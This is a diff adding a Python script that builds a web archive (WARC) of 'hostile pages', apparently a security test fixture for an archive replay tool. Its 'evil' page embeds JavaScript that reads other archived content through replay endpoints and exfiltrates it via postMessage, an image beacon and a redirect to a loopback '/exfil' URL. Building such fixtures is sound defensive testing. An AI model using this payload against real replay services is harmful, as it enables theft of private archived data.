@@ -1,0 +1,28 @@
+"""Writes an archive of hostile pages: hostile.py FILE.warc PORT, where PORT is that of a live web on loopback."""
+import hashlib
+import sys
+
+
+def capture(url, media, body, head=b""):
+    http = b"HTTP/1.1 200 OK\r\nContent-Type: " + media.encode() + b"\r\n" + head + b"\r\n" + body
+    return (
+        "WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: %s\r\nWARC-Date: 2026-03-14T12:00:00Z\r\n"
+        "WARC-Record-ID: <urn:uuid:%s>\r\nContent-Type: application/http;msgtype=response\r\nContent-Length: %d\r\n\r\n"
+        % (url, hashlib.md5(url.encode()).hexdigest(), len(http))
+    ).encode() + http + b"\r\n\r\n"
+
+
+EVIL = """<!doctype html><title>evil</title><meta http-equiv=refresh content="1;url=http://127.0.0.1:PORT/refresh">
+<img src="http://127.0.0.1:PORT/img"><link rel=stylesheet href="http://127.0.0.1:PORT/css"><script>
+(async () => {
+  const read = async (path) => { try { return await (await fetch(path)).text(); } catch (e) { return "" + e; } };
+  const found = await read("/timemap/link/http://secret.test/") + await read("/web/2026id_/http://secret.test/") + await read("/");
+  for (const other of [window.opener, parent]) if (other && other !== self) other.postMessage(found, "*");
+  new Image().src = "http://127.0.0.1:PORT/image?" + encodeURIComponent(found);
+  location = "http://127.0.0.1:PORT/exfil?" + encodeURIComponent(found);
+})()</script>"""
+
+if __name__ == "__main__":
+    with open(sys.argv[1], "wb") as out:
+        out.write(capture("http://evil.test/", "text/html", EVIL.replace("PORT", sys.argv[2]).encode()))
+        out.write(capture("http://secret.test/", "text/html", b"<title>secret</title>SECRET"))
